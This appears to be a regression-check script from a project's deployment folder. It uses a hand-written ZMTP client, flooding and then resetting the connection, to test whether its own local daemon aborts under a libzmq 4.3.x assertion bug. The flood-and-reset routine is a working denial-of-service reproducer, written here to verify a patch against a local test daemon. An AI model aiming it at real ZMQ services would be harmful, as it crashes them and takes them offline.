"""Can one client abort the daemon by disconnecting? Attacks it the hard way.

Starts ``edgecloud serve`` and connects with a hand-written ZMTP 3.1 client (no libzmq) that
floods 2-frame messages with a PING command after each one until the daemon's receive pipe for
it is full, then resets the connection (SO_LINGER 0). Stock libzmq 4.3.x aborts the daemon in
``out_event`` (``Assertion failed: !_io_error (src/stream_engine_base.cpp:310)``) when it
later answers the buffered PING, even though the daemon runs no ZMTP heartbeats (measured
here: every round). With libzmq built with ``out_event-io_error.patch`` no round aborts.
Ordinary libzmq clients that flood and disconnect do not reach this path (see
``tests/test_hardening.py``); CurveZMQ keeps clients without an allowed key from reaching it.

    python deploy/libzmq/check_disconnect_crash.py --rounds 10   # exit 1 if any round aborted
"""

from __future__ import annotations

import argparse
import contextlib
import json
import socket
import struct
import sys
import time

from edgecloud.cloud.process import DaemonProcess


def _frame(body: bytes, more: bool = False, command: bool = False) -> bytes:
    flags = (1 if more else 0) | (4 if command else 0)
    if len(body) > 255:
        return bytes([flags | 2]) + struct.pack(">Q", len(body)) + body
    return bytes([flags, len(body)]) + body


def attack(host: str, port: int, seconds: float) -> int:
    """One round: handshake as a DEALER, flood messages + PINGs, then RST (or stop when the
    daemon disconnects this client). Bytes sent."""
    sock = socket.create_connection((host, port))
    greeting = b"\xff" + b"\0" * 8 + b"\x7f" + bytes([3, 1]) + b"NULL".ljust(20, b"\0")
    sock.sendall(greeting + b"\0" * 32)
    got = b""
    while len(got) < 64:
        got += sock.recv(64 - len(got))
    ready = b"\x05READY" + bytes([11]) + b"Socket-Type" + struct.pack(">I", 6) + b"DEALER"
    sock.sendall(_frame(ready, command=True))
    header = json.dumps({"v": 1, "kind": "infer", "id": "x", "pad": "p" * 150}).encode()
    ping = _frame(b"\x04PING" + struct.pack(">H", 50) + b"ctx", command=True)
    chunk = (_frame(header, more=True) + _frame(b"x" * 100) + ping) * 200
    sock.settimeout(0.05)
    sent, end = 0, time.monotonic() + seconds
    while time.monotonic() < end:
        try:
            sent += sock.send(chunk)
        except socket.timeout:
            continue
        except (BrokenPipeError, ConnectionResetError):  # the daemon cut this client off
            break
    with contextlib.suppress(OSError):
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
    sock.close()
    return sent


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--rounds", type=int, default=10)
    parser.add_argument("--seconds", type=float, default=4.0, help="flood per round")
    args = parser.parse_args()
    import zmq

    print(f"pyzmq {zmq.__version__}, libzmq {zmq.zmq_version()}")
    crashes = 0
    for i in range(args.rounds):
        daemon = DaemonProcess(["--bind", "tcp://127.0.0.1:0", "--cut", "blocks",
                                "--stats-interval", "3600"])  # fmt: skip
        host, port = daemon.start().rsplit("//", 1)[1].rsplit(":", 1)
        attack(host, int(port), args.seconds)
        time.sleep(3.0)  # the daemon reads the rest of the pipe: restart_input runs
        died = daemon.proc.poll() is not None
        crashes += died
        print(f"round {i + 1}: {'ABORTED' if died else 'alive'}", flush=True)
        daemon.stop(30)
    print(f"{crashes}/{args.rounds} rounds aborted the daemon")
    return 1 if crashes else 0


if __name__ == "__main__":
    sys.exit(main())
